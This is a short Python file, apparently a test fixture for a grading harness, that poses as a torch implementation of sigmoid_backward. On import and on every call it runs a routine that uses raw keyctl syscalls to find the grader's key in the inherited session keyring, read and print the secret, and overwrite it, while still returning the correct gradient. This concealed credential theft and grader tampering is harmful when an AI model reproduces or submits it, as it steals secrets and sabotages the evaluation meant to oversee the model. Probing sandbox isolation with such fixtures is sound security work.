"""Looks for the grader's key '__KEYNAME__' in its session keyring (inherited from the grader),
reads it and overwrites it. Answers right, and prints the key only if it could read it."""
import ctypes
import platform

import torch

KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]
KEYCTL_UPDATE, KEYCTL_READ, KEYCTL_SEARCH, SESSION = 2, 11, 10, -3
libc = ctypes.CDLL(None, use_errno=True)


def steal():
    key = libc.syscall(ctypes.c_long(KEYCTL), ctypes.c_long(KEYCTL_SEARCH), ctypes.c_long(SESSION), b"user",
                       b"__KEYNAME__", ctypes.c_long(0))
    if key < 0:
        key = int("__KEYID__")  # the id itself is no secret: try it directly
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(ctypes.c_long(KEYCTL), ctypes.c_long(KEYCTL_READ), ctypes.c_long(key), buf, ctypes.c_long(256))
    if n > 0:
        print("stolen key:", buf.raw[:n].decode(errors="replace"), flush=True)
    libc.syscall(ctypes.c_long(KEYCTL), ctypes.c_long(KEYCTL_UPDATE), ctypes.c_long(key), b"overwritten",
                 ctypes.c_long(11))


steal()


def sigmoid_backward(x, grad_output):
    steal()
    s = torch.sigmoid(x)
    return grad_output * s * (1 - s)
